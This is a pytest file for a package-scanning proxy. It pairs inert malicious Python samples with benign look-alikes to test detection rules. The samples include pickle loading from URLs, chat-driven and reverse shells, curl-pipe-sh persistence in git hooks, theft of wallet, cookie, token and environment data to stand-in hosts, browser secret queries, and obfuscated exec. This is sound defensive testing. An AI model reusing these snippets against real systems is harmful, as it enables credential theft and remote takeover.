"""Behaviours rules 19 to 21 read, each beside a look-alike that must pass: a pickle (or a
format like it) loaded from the network; a chat client's messages or a DNS answer run as
commands; a sandbox check that kills the analyst's tools; a native library, or a module
shipped only compiled, loaded early from a platform-free archive; request catchers,
tunnels, shared app hosts and dynamic DNS hosts as sinks; token files, wallet extensions,
cookie readers and a browser's secret-reading SQL as credentials; git hooks and IPython's
start-up folder as persistence; builtins fetched or renamed by their spelled names.

The "malicious" sources below are inert text handed to the scanner; nothing runs them.
"""

from __future__ import annotations

import pytest

from pipgate.proxy.scan import indicators
from tests.support.archives import pkg_info, sdist, wheel
from tests.support.scan import judge, judge_in_function

WHEEL = "demo-1.0-py3-none-any.whl"
DLL = b"MZ\x90\x00" + bytes(124)


def _imported(code: str, **shipped: bytes) -> tuple[dict[str, float], bool]:
    members: dict[str, str | bytes] = {"demo/__init__.py": code}
    members.update({f"demo/{name}": data for name, data in shipped.items()})
    return judge(wheel(members), WHEEL)


@pytest.mark.parametrize(
    "code",
    [
        "import pickle, urllib.request\n"
        "CONFIG = pickle.loads(urllib.request.urlopen('https://cfg.example.net/c.bin').read())\n",
        "import yaml, requests\n"
        "yaml.unsafe_load(requests.get('https://cfg.example.net/c.yml').text)\n",
        "import joblib, io, urllib.request\n"
        "joblib.load(io.BytesIO(urllib.request.urlopen('https://m.example.net/m').read()))\n",
    ],
    ids=["pickle", "yaml", "joblib"],
)
def test_a_pickle_loaded_from_the_network_is_run_download(code: str) -> None:
    rules, held = _imported(code)
    assert rules.get("download-exec") == 10
    assert held


def test_a_pickle_loaded_from_the_network_inside_a_function_is_read() -> None:
    client = (
        "import pickle, requests\n"
        "def connect():\n"
        "    return pickle.loads(requests.get('https://cfg.example.net/c.bin').content)\n"
    )
    rules, held = judge_in_function(client)
    assert "download-exec" in rules
    assert held


@pytest.mark.parametrize(
    "code",
    [
        # A cache that unpickles what it wrote itself.
        "import os, pickle\n"
        "PATH = os.path.expanduser('~/.cache/demo/index.pkl')\n"
        "def load():\n"
        "    with open(PATH, 'rb') as f:\n"
        "        return pickle.load(f)\n",
        # A helper that unpickles whatever it is handed (every cache client has one).
        "import pickle, requests\n"
        "def decode(blob):\n"
        "    return pickle.loads(blob)\n"
        "def fetch(url):\n"
        "    return decode(requests.get(url).content)\n",
    ],
    ids=["own cache", "decoding helper"],
)
def test_everyday_unpickling_passes(code: str) -> None:
    rules, held = _imported(code)
    assert "download-exec" not in rules
    assert not held


ZULIP_C2 = (
    "import zulip, subprocess\n"
    "client = zulip.Client(email='bot@chat.example.zulipchat.com', api_key='k' * 32,\n"
    "                      site='https://chat.example.zulipchat.com')\n"
    "for m in client.get_messages({'anchor': 'newest', 'num_before': 1})['messages']:\n"
    "    out = subprocess.getoutput(m['content'])\n"
    "    client.send_message({'type': 'stream', 'to': 'x', 'topic': 'y', 'content': out})\n"
)


def test_chat_messages_run_as_commands_are_a_remote_shell() -> None:
    rules, held = _imported(ZULIP_C2)
    assert rules.get("download-exec") == 10
    assert held
    slack = (
        "import slack_sdk, subprocess\n"
        "def connect():\n"
        "    c = slack_sdk.WebClient(token='xoxb-000-000-Abcdefghijklmnopqrstuvwx')\n"
        "    for m in c.conversations_history(channel='C0')['messages']:\n"
        "        c.chat_postMessage(channel='C0', text=subprocess.getoutput(m['text']))\n"
    )
    rules, held = judge_in_function(slack)
    assert "download-exec" in rules
    assert held


def test_a_chat_bot_that_answers_without_running_anything_passes() -> None:
    echo = ZULIP_C2.replace("subprocess.getoutput(m['content'])", "m['content'].upper()")
    rules, held = _imported(echo)
    assert "download-exec" not in rules
    assert not held


ANALYSIS = (
    "import os, sys, psutil\n"
    "USERS = ['WDAGUtilityAccount', 'Abby', 'Peter Wilson', 'hmarc', 'patex']\n"
    "TOOLS = ['httpdebuggerui', 'wireshark', 'fiddler', 'vboxservice', 'vmtoolsd', 'x96dbg']\n"
)


def test_a_sandbox_check_that_kills_the_analysts_tools_is_held() -> None:
    code = ANALYSIS + (
        "for p in psutil.process_iter():\n"
        "    if p.name().lower().replace('.exe', '') in TOOLS:\n"
        "        p.kill()\n"
    )
    rules, held = _imported(code)
    assert rules.get("anti-analysis") == 10
    assert held


def test_a_sandbox_list_alone_weighs_less() -> None:
    rules, held = _imported(ANALYSIS)
    assert rules.get("anti-analysis") == 8
    assert not held


LOAD_DLL = (
    "import ctypes, os, sys\n"
    "here = os.path.dirname(__file__)\n"
    "if sys.platform == 'win32':\n"
    "    lib = ctypes.WinDLL(os.path.join(here, 'terminate.dll'))\n"
    "    lib.envir()\n"
)


def test_a_shipped_library_loaded_on_import_of_a_pure_wheel_is_held() -> None:
    rules, held = _imported(LOAD_DLL, **{"terminate.dll": DLL})
    assert rules.get("bundled-library") == 10
    assert held


def test_a_shipped_library_loaded_by_an_sdists_setup_is_held() -> None:
    setup = (
        "import ctypes\nfrom setuptools import setup\n"
        "ctypes.CDLL('./native/libinit.so').start()\n"
        "setup(name='demo', version='1.0')\n"
    )
    archive = sdist(
        {
            "setup.py": setup,
            "PKG-INFO": pkg_info("demo"),
            "native/libinit.so": b"\x7fELF\x02\x01\x01" + bytes(121),
            "demo/__init__.py": "def version():\n    return '1.0'\n",
        }
    )
    rules, held = judge(archive, "demo-1.0.tar.gz")
    assert rules.get("bundled-library") == 10
    assert held


def test_a_shipped_library_loaded_from_a_function_the_package_calls_is_held() -> None:
    members: dict[str, str | bytes] = {
        "demo/__init__.py": "from .native import connect\nconnect()\n",
        "demo/native.py": "def connect():\n"
        + "".join(f"    {line}\n" for line in LOAD_DLL.splitlines()),
        "demo/terminate.dll": DLL,
    }
    rules, held = judge(wheel(members), WHEEL)
    assert "bundled-library" in rules
    assert held


@pytest.mark.parametrize(
    ("filename", "shipped"),
    [
        # A platform wheel's libraries are its build's product.
        ("demo-1.0-cp311-cp311-win_amd64.whl", True),
        # The system's own library, not one the archive ships.
        (WHEEL, False),
    ],
    ids=["platform wheel", "system library"],
)
def test_libraries_a_build_made_or_the_system_has_pass(filename: str, shipped: bool) -> None:
    code = LOAD_DLL if shipped else "import ctypes\nlibc = ctypes.CDLL('libc.so.6')\n"
    members: dict[str, str | bytes] = {"demo/__init__.py": code}
    if shipped:
        members["demo/terminate.dll"] = DLL
    rules, held = judge(wheel(members), filename)
    assert "bundled-library" not in rules
    assert not held


@pytest.mark.parametrize(
    ("text", "category"),
    [
        ("https://x1y2z3.requestrepo.com/", "request catcher"),
        ("https://quiet-api.someone.workers.dev/c", "shared app host"),
        ("https://quiet.eu-gb.mybluemix.appdomain.cloud/c", "shared app host"),
        ("https://f004.backblazeb2.com/file/bucket/u.exe", "paste site"),
        ("tcp://a1b2.a.pinggy.link:40123", "request catcher"),
        ("bore.pub:31337", "request catcher"),
        ("quietbox.duckdns.org", "dynamic dns host"),
        ("home-7.ddns.net:4444", "dynamic dns host"),
    ],
)
def test_tunnels_catchers_and_home_hosts_are_sinks(text: str, category: str) -> None:
    assert indicators.SINKS[category].search(text, text.lower()) is not None


@pytest.mark.parametrize(
    "text",
    [
        "https://www.duckdns.org/update?domains=x",
        "see the docs at pages.dev",
        "interactive",
        "https://api.backblazeb2.com/b2api/v2/b2_authorize_account",
    ],
)
def test_their_providers_own_sites_are_not(text: str) -> None:
    assert all(i.search(text, text.lower()) is None for i in indicators.SINKS.values())


def test_a_shell_connected_to_a_home_host_is_held() -> None:
    code = (
        "import socket, subprocess, os\n"
        "s = socket.socket()\n"
        "s.connect(('quietbox.duckdns.org', 7777))\n"
        "for f in (0, 1, 2):\n"
        "    os.dup2(s.fileno(), f)\n"
        "subprocess.call(['/bin/sh', '-i'])\n"
    )
    rules, held = judge_in_function(
        "def connect():\n" + "".join(f"    {x}\n" for x in code.splitlines())
    )
    assert "exfil-sink" in rules
    assert held


@pytest.mark.parametrize(
    ("member", "data"),
    [
        ("demo/_core.pyc", b"\xa7\r\r\n" + bytes(60)),
        ("demo/_core.cpython-311-x86_64-linux-gnu.so", b"\x7fELF\x02\x01\x01" + bytes(60)),
        ("demo/_core.cp311-win_amd64.pyd", b"MZ\x90\x00" + bytes(60)),
    ],
    ids=["pyc", "so", "pyd"],
)
def test_a_module_shipped_only_compiled_and_imported_early_is_held(
    member: str, data: bytes
) -> None:
    rules, held = _imported("from ._core import run\nrun()\n", **{member[5:]: data})
    assert rules.get("bundled-library") == 10
    assert held


def test_a_compiled_module_beside_its_source_passes() -> None:
    archive = sdist(
        {
            "setup.py": "from setuptools import setup\nsetup(name='demo', version='1.0')\n",
            "PKG-INFO": pkg_info("demo"),
            "demo/__init__.py": "from ._core import run\n",
            "demo/_core.pyx": "def run():\n    return 1\n",
            "demo/_core.c": "/* generated */\n",
            "demo/_core.cpython-311-x86_64-linux-gnu.so": b"\x7fELF" + bytes(60),
        }
    )
    rules, held = judge(archive, "demo-1.0.tar.gz")
    assert "bundled-library" not in rules
    assert not held


def test_a_compiled_module_in_a_platform_wheel_passes() -> None:
    members: dict[str, str | bytes] = {
        "demo/__init__.py": "from ._core import run\n",
        "demo/_core.cpython-311-x86_64-linux-gnu.so": b"\x7fELF" + bytes(60),
    }
    rules, held = judge(wheel(members), "demo-1.0-cp311-cp311-manylinux_2_17_x86_64.whl")
    assert "bundled-library" not in rules
    assert not held


@pytest.mark.parametrize(
    "code",
    [
        "import os, requests\n"
        "key = open(os.path.expanduser('~/.config/solana/id.json')).read()\n"
        "requests.post('https://collect.example.net/k', data=key)\n",
        "import browser_cookie3, requests\n"
        "jar = browser_cookie3.chrome()\n"
        "requests.post('https://collect.example.net/c', data=str(list(jar)))\n",
    ],
    ids=["solana keypair", "browser cookies"],
)
def test_a_wallet_key_or_the_browsers_cookies_sent_away_is_held(code: str) -> None:
    rules, held = _imported(code)
    assert "credential-exfil" in rules
    assert held


def test_the_browsers_cookies_used_to_sign_in_pass() -> None:
    code = (
        "import browser_cookie3, requests\n"
        "def fetch(url):\n"
        "    return requests.get(url, cookies=browser_cookie3.chrome(domain_name='example.com'))\n"
    )
    rules, held = _imported(code)
    assert "credential-exfil" not in rules
    assert not held


def test_a_wallet_extensions_store_read_beside_a_request_is_a_credential_read() -> None:
    code = (
        "import os, requests\n"
        "p = os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Chrome', 'User Data', 'Default',\n"
        "                 'Local Extension Settings', 'bfnaelmomeimhlpmgjnjophhpkkoljpa')\n"
        "requests.post('https://collect.example.net/w', data=str(os.listdir(p)))\n"
    )
    rules, held = _imported(code)
    assert "credential-read" in rules
    assert held


@pytest.mark.parametrize(
    ("code", "rule"),
    [
        (
            "import dns.resolver\n"
            "answer = dns.resolver.resolve('p.example.net', 'TXT')\n"
            "exec(''.join(r.to_text() for r in answer))\n",
            "download-exec",
        ),
        (
            "import httpimport\n"
            "with httpimport.remote_repo('https://cdn.example.net/pkgs/'):\n"
            "    import helper\n",
            "download-exec",
        ),
        (
            "import os\nexec(open(os.path.join(os.path.dirname(__file__), 'LICENSE')).read()[900:])\n",
            "decode-exec",
        ),
        (
            "import os\nos.system('msiexec /i https://cdn.example.net/u.msi /quiet')\n",
            "download-run",
        ),
        (
            "import subprocess\nsubprocess.call('regsvr32 /s /n /u /i:https://cdn.example.net/a.sct "
            "scrobj.dll', shell=True)\n",
            "download-run",
        ),
        (
            "import ftplib, io, os\n"
            "f = ftplib.FTP('ftp.example.net')\n"
            "f.login('u', 'p')\n"
            "f.storbinary('STOR e.txt', io.BytesIO(str(dict(os.environ)).encode()))\n",
            "credential-exfil",
        ),
        (
            "import os, requests\n"
            "token = open(os.path.expanduser('~/.config/gh/hosts.yml')).read()\n"
            "requests.post('https://collect.example.net/g', data=token)\n",
            "credential-exfil",
        ),
    ],
    ids=["dns txt", "httpimport", "license", "msiexec", "regsvr32", "ftp", "gh token"],
)
def test_more_ways_to_fetch_run_or_send_are_held_from_any_function(code: str, rule: str) -> None:
    client = "def connect():\n" + "".join(f"    {line}\n" for line in code.splitlines())
    rules, held = judge_in_function(client)
    assert rule in rules
    assert held


def test_a_license_read_for_the_metadata_passes() -> None:
    setup = (
        "from setuptools import setup\n"
        "setup(name='demo', version='1.0', license=open('LICENSE').read())\n"
    )
    archive = sdist(
        {
            "setup.py": setup,
            "PKG-INFO": pkg_info("demo"),
            "LICENSE": "MIT License\n",
            "demo/__init__.py": "def version():\n    return '1.0'\n",
        }
    )
    rules, held = judge(archive, "demo-1.0.tar.gz")
    assert "decode-exec" not in rules
    assert not held


def test_the_ci_runners_worker_named_beside_a_request_is_a_credential_read() -> None:
    code = (
        "import os, requests\n"
        "for pid in filter(str.isdigit, os.listdir('/proc')):\n"
        "    if 'Runner.Worker' in open(f'/proc/{pid}/cmdline').read():\n"
        "        requests.post('https://collect.example.net/m', data=open(f'/proc/{pid}/maps').read())\n"
    )
    rules, _ = _imported(code)
    assert "credential-read" in rules
    assert "credential-exfil" in rules


# Rules 20.


@pytest.mark.parametrize(
    "code",
    [
        "import os\n"
        "p = os.path.join(os.getcwd(), '.git', 'hooks', 'pre-commit')\n"
        "open(p, 'w').write('#!/bin/sh\\ncurl -s https://c.example.net/x | sh\\n')\n",
        "import os\n"
        "d = os.path.expanduser('~/.ipython/profile_default/startup')\n"
        "open(os.path.join(d, '00-x.py'), 'w').write(\"import os; os.system('curl -s "
        "https://c.example.net/x | sh')\")\n",
    ],
    ids=["git hook", "ipython startup"],
)
def test_a_download_run_written_where_the_next_commit_or_shell_runs_it_is_held(code: str) -> None:
    rules, held = judge_in_function(
        "def connect():\n" + "".join(f"    {x}\n" for x in code.splitlines())
    )
    assert "persistence" in rules
    assert rules.get("download-run") == 10
    assert held


def test_a_hook_manager_that_writes_its_own_hook_passes() -> None:
    code = (
        "import os\n"
        "def install(repo):\n"
        "    p = os.path.join(repo, '.git', 'hooks', 'pre-commit')\n"
        "    with open(p, 'w') as f:\n"
        "        f.write('#!/usr/bin/env python\\nimport sys\\nfrom hooks import main\\nsys.exit(main())\\n')\n"
    )
    rules, held = _imported(code)
    assert "download-run" not in rules
    assert not held


def test_a_key_maker_replaced_by_one_that_sends_the_key_in_a_transaction_is_held() -> None:
    code = (
        "from solders.keypair import Keypair\n"
        "from solana.rpc.api import Client\n"
        "_orig = Keypair.from_bytes\n"
        "def _hook(b):\n"
        "    k = _orig(b)\n"
        "    Client('https://api.devnet.solana.com').send_transaction(bytes(k))\n"
        "    return k\n"
        "Keypair.from_bytes = staticmethod(_hook)\n"
    )
    rules, held = _imported(code)
    assert "patch-exfil" in rules
    assert held
    unpatched = code.replace("Keypair.from_bytes = staticmethod(_hook)\n", "")
    rules, held = _imported(unpatched)
    assert "patch-exfil" not in rules
    assert not held


@pytest.mark.parametrize(
    "call",
    ["code.InteractiveInterpreter().runsource(p)", "timeit.timeit(p, number=1)", "cProfile.run(p)"],
)
def test_the_standard_librarys_other_ways_to_run_a_string_are_exec(call: str) -> None:
    client = (
        "import base64, code, cProfile, timeit\n"
        "def connect():\n"
        "    p = base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik=')\n"
        f"    {call}\n"
    )
    rules, held = judge_in_function(client)
    assert rules.get("decode-exec") == 10
    assert held


def test_timing_a_literal_statement_passes() -> None:
    rules, held = _imported("import timeit\nprint(timeit.timeit('sum(range(100))', number=1000))\n")
    assert "decode-exec" not in rules
    assert not held


# Rules 21.


def test_a_builtin_fetched_through_builtins_own_getattr_is_followed() -> None:
    code = (
        "cc = __builtins__.getattr(__builtins__, b'\\x85\\xa5\\x81\\x93'.decode('cp1026'))\n"
        "cc(b'\\x89\\x94\\x97\\x96\\x99\\xa3@\\x96\\xa2'.decode('cp1026'))\n"
    )
    rules, held = _imported(code)
    assert rules.get("decode-exec") == 10
    assert held


def test_a_builtin_renamed_by_evaluating_its_name_is_followed() -> None:
    code = "import base64\n_____ = eval('\\145\\166\\141\\154')\n_____(base64.b64decode('aW1wb3J0IG9z'))\n"
    rules, held = _imported(code)
    assert rules.get("decode-exec") == 10
    assert held


def test_a_payload_revealed_from_an_image_and_run_is_decode_exec() -> None:
    client = "from stegano import lsb\ndef connect():\n    exec(lsb.reveal('cover.png'))\n"
    rules, held = judge_in_function(client)
    assert rules.get("decode-exec") == 10
    assert held


@pytest.mark.parametrize(
    "query",
    [
        "SELECT origin_url, username, password_value FROM logins",
        "select host_key, name, encrypted_value from cookies",
        "SELECT name_on_card, card_number_encrypted FROM credit_cards",
    ],
)
def test_the_queries_that_read_a_browsers_secrets_are_a_credential_read(query: str) -> None:
    code = (
        "import sqlite3, requests\n"
        "def steal(db):\n"
        f"    rows = sqlite3.connect(db).execute({query!r}).fetchall()\n"
        "    requests.post('https://collect.example.net/p', data=str(rows))\n"
    )
    rules, held = _imported(code)
    assert "credential-read" in rules
    assert "credential-exfil" in rules
    assert held


# Rules 22.


def test_the_environment_sent_to_an_address_the_code_carries_is_theft_from_any_module() -> None:
    # A module nothing imports on install or import: its weights are scaled down, but not
    # this one's (theft whichever code calls it).
    tools = (
        "import json, os, urllib.request\n"
        "def report():\n"
        "    body = json.dumps(dict(os.environ)).encode()\n"
        "    urllib.request.urlopen('https://collect.example.net/e', data=body)\n"
    )
    rules, held = judge(wheel({"demo/__init__.py": "", "demo/tools.py": tools}), WHEEL)
    assert rules.get("credential-exfil") == 10
    assert held


def test_the_environment_handed_to_curl_with_its_address_is_sent_there() -> None:
    client = (
        "import json, os, subprocess\n"
        "def connect():\n"
        "    subprocess.run(['curl', '-s', '-d', json.dumps(dict(os.environ)),\n"
        "                    'https://collect.example.net/e'])\n"
    )
    rules, held = judge_in_function(client)
    assert rules.get("credential-exfil") == 10
    assert held


def test_a_module_that_sends_one_named_setting_to_its_own_service_passes() -> None:
    tools = (
        "import os, requests\n"
        "def report(event):\n"
        "    requests.post('https://api.example.net/events',\n"
        "                  json={'event': event, 'region': os.getenv('APP_REGION')})\n"
    )
    rules, held = judge(wheel({"demo/__init__.py": "", "demo/tools.py": tools}), WHEEL)
    assert "credential-exfil" not in rules
    assert not held


# Rules 23.


@pytest.mark.parametrize(
    "command",
    ["cat /tekton/scripts/* > LICENSE", "cp -r /run/secrets/ build/", "cat ~/.aws/credentials"],
)
def test_an_install_time_command_that_reads_the_machines_secrets_is_held(command: str) -> None:
    setup = (
        "import os\n"
        "from setuptools import setup\n"
        "from setuptools.command.install import install\n"
        "class Install(install):\n"
        "    def run(self):\n"
        f"        os.system({command!r})\n"
        "        install.run(self)\n"
        "setup(name='demo', version='1.0', cmdclass={'install': Install})\n"
    )
    archive = sdist(
        {"setup.py": setup, "PKG-INFO": pkg_info("demo"), "demo/__init__.py": "X = 1\n"}
    )
    rules, held = judge(archive, "demo-1.0.tar.gz")
    assert rules.get("credential-exfil") == 10
    assert held


def test_an_install_time_command_beside_a_secret_it_does_not_read_passes() -> None:
    setup = (
        "import os, subprocess\n"
        "from setuptools import setup\n"
        "SECRETS = '/run/secrets/'  # documented for the container image\n"
        "subprocess.run(['git', 'describe', '--tags'])\n"
        "setup(name='demo', version='1.0')\n"
    )
    archive = sdist(
        {"setup.py": setup, "PKG-INFO": pkg_info("demo"), "demo/__init__.py": "X = 1\n"}
    )
    rules, held = judge(archive, "demo-1.0.tar.gz")
    assert "credential-exfil" not in rules
    assert not held


@pytest.mark.parametrize(
    ("command", "held"),
    [("env > LICENSE", True), ("printenv >> build/info.txt", True), ("env", False)],
)
def test_the_environment_written_to_a_file_at_install_is_taken(command: str, held: bool) -> None:
    setup = f"import os\nfrom setuptools import setup\nos.system({command!r})\nsetup(name='demo')\n"
    archive = sdist(
        {"setup.py": setup, "PKG-INFO": pkg_info("demo"), "demo/__init__.py": "X = 1\n"}
    )
    rules, flagged = judge(archive, "demo-1.0.tar.gz")
    assert flagged is held
    assert ("credential-exfil" in rules) is held
